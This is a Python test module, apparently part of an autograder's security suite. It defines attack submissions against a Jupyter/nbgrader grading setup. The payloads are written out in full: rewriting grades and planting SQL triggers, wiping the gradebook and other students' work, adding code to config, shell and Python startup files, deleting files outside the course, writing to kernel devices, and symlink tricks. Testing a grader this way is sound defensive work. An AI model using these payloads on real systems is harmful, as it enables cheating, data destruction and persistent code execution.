"""Attacks on the course folder, the gradebook, the settings, and files beyond."""

from autograde.tests.attacks.cheat_tests import guess
from autograde.tests.attacks.entry import HARM, POINTS, Entry, attack

ROOTS = """
import os, shutil, sqlite3
from pathlib import Path
roots = [Path(COURSE), *Path.cwd().parents[:4]]
roots = [root for root in roots if (root / "gradebook.db").exists() or str(root) == COURSE]
"""


@attack(POINTS)
def own_grade(entry: Entry) -> None:
    """Writes its own grade into the gradebook, and has the database write it again."""
    guess(entry)
    entry.answer(
        area=ROOTS
        + """
for root in roots:
    try:
        with sqlite3.connect(root / "gradebook.db", timeout=2) as db:
            db.execute("update grade set manual_score = 99")
            db.execute("create trigger again after update on grade when new.auto_score = 0 "
                       "begin update grade set auto_score = 99 where id = new.id; end")
    except sqlite3.Error as error:
        print(error)
area = 0"""
    )


@attack(HARM)
def gradebook_of_all(entry: Entry) -> None:
    """Empties the gradebook, locks it, and writes over its file."""
    entry.answer(
        area=ROOTS
        + """
for root in roots:
    try:
        db = sqlite3.connect(root / "gradebook.db", timeout=1)
        db.executescript("delete from grade; delete from source_cell; drop table student;")
        db.execute("begin exclusive")
    except sqlite3.Error as error:
        print(error)
    try:
        (root / "gradebook.db").write_bytes(b"x" * 4096)
    except OSError as error:
        print(error.strerror)
area = 0"""
    )


@attack(HARM)
def others_submissions(entry: Entry) -> None:
    """Deletes what the others handed in, and what was graded and released."""
    entry.answer(
        area=ROOTS
        + """
for root in roots:
    for name in ("submitted", "autograded", "feedback", "release"):
        for path in (root / name).glob("*"):
            if path.name != NAME:
                shutil.rmtree(path, ignore_errors=True)
area = 0"""
    )


@attack(HARM)
def others_answers(entry: Entry) -> None:
    """Writes its own notebook over those of the others."""
    entry.answer(
        area=ROOTS
        + """
for root in roots:
    for path in root.glob("submitted/*/*/*.ipynb"):
        try:
            path.write_text("{}")
        except OSError as error:
            print(error.strerror)
area = 0"""
    )


@attack(HARM)
def settings(entry: Entry) -> None:
    """Adds a line to nbgrader_config.py that the instructor's next command runs."""
    entry.answer(
        area=ROOTS
        + """
for path in [*(root / "nbgrader_config.py" for root in roots), Path.home() / "x.py"]:
    try:
        with path.open("a") as file:
            file.write(f"\\nopen({OUTSIDE!r} + '/owned', 'w').close()\\n")
    except OSError as error:
        print(error.strerror)
area = 0"""
    )


@attack(HARM)
def start_up_files(entry: Entry) -> None:
    """Leaves files that Python, IPython, Jupyter and the shell run at their next start."""
    entry.answer(
        area="""
import os, site, sys
from pathlib import Path
line = f"open({OUTSIDE!r} + '/owned', 'w').close()\\n"
home = Path.home()
files = [home / ".jupyter/nbgrader_config.py", home / ".jupyter/jupyter_config.py",
         home / ".bashrc",
         home / ".ipython/profile_default/startup/00.py", Path(COURSE) / "sitecustomize.py",
         home / ".local/share/jupyter/kernels/python3/kernel.json", Path.cwd() / "owned.pth",
         *(Path(folder) / "owned.pth" for folder in sys.path if folder.startswith("/"))]
for path in files:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a") as file:
            file.write("import os; " * (path.suffix == ".pth") + line)
    except OSError as error:
        print(error.strerror)
os.environ["PYTHONSTARTUP"] = str(home / ".bashrc")
area = 0"""
    )


@attack(HARM)
def files_outside(entry: Entry) -> None:
    """Writes, deletes, renames and changes files outside of the course."""
    entry.answer(
        area="""
import os, shutil
from pathlib import Path
outside = Path(OUTSIDE)
for action in (
    lambda: (outside / "diary.txt").write_text("owned"),
    lambda: (outside / "new.txt").write_text("owned"),
    lambda: (outside / "diary.txt").chmod(0o777),
    lambda: (outside / "empty.txt").unlink(),
    lambda: os.truncate(outside / "diary.txt", 0),
    lambda: os.rename(outside / "bin", outside / "gone"),
    lambda: os.link(outside / "diary.txt", "diary"),
    lambda: os.utime(outside / "diary.txt", (0, 0)),
    lambda: shutil.rmtree(outside),
):
    try:
        action()
    except OSError as error:
        print(error.strerror)
area = 0"""
    )


@attack(HARM)
def links_to_outside(entry: Entry) -> None:
    """Puts links where the grader will write: its notebook, its folder, its temporary files."""
    entry.answer(
        area="""
import glob, os, tempfile
from pathlib import Path
here = Path.cwd()
for path in [*glob.glob("*.ipynb"), "attacked.ipynb", "result.json", "x.html", ".nbgrader.log"]:
    try:
        if os.path.exists(path):
            os.remove(path)
        os.symlink(f"{OUTSIDE}/diary.txt", path)
    except OSError as error:
        print(error.strerror)
for path in (here.with_name("gone"),):
    try:
        here.rename(path)
        os.symlink(OUTSIDE, here)
    except OSError as error:
        print(error.strerror)
area = 0"""
    )


@attack(HARM)
def devices(entry: Entry) -> None:
    """Writes to disks, memory and terminals, and makes devices of its own."""
    entry.answer(
        area="""
import glob, os, stat
for path in ("/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/console", "/proc/sysrq-trigger",
             "/proc/sys/kernel/core_pattern", "/sys/power/state", "/dev/shm/atk-" + NAME,
             "/var/tmp/atk-" + NAME, "/run/atk-" + NAME, *glob.glob("/dev/pts/*")):
    try:
        with open(path, "wb") as file:
            print("opened", path, file)
    except OSError as error:
        print(error.strerror)
for kind in (stat.S_IFCHR, stat.S_IFBLK):
    try:
        os.mknod("device", kind | 0o666, os.makedev(1, 1))
    except OSError as error:
        print(error.strerror)
area = 0"""
    )


@attack(POINTS)
def copied_link(entry: Entry) -> None:
    """Hands in a link to the notebook of another student."""
    other = entry.place.course / "submitted" / "zoe" / "attacked" / "attacked.ipynb"
    entry.path.symlink_to(other)


@attack(POINTS)
def copied_folder(entry: Entry) -> None:
    """Hands in a link to another student's folder in the place of its own."""
    entry.folder.rmdir()
    entry.folder.symlink_to(entry.place.course / "submitted" / "zoe" / "attacked")
    entry.notebook = None


@attack(HARM)
def link_to_a_device(entry: Entry) -> None:
    """Hands in a link to a device that never ends, and a pipe that nobody writes to."""
    import os

    entry.path.symlink_to("/dev/zero")
    os.mkfifo(entry.folder / "timestamp.txt")


@attack(HARM)
def links_beside(entry: Entry) -> None:
    """Hands in links to private files beside the notebook, which copies of the folder follow."""
    guess(entry)
    entry.write()
    (entry.folder / "diary.txt").symlink_to(entry.place.outside / "diary.txt")
    (entry.folder / "source").symlink_to(entry.place.course / "source")
    (entry.folder / "feedback.html").symlink_to(entry.place.outside / "diary.txt")
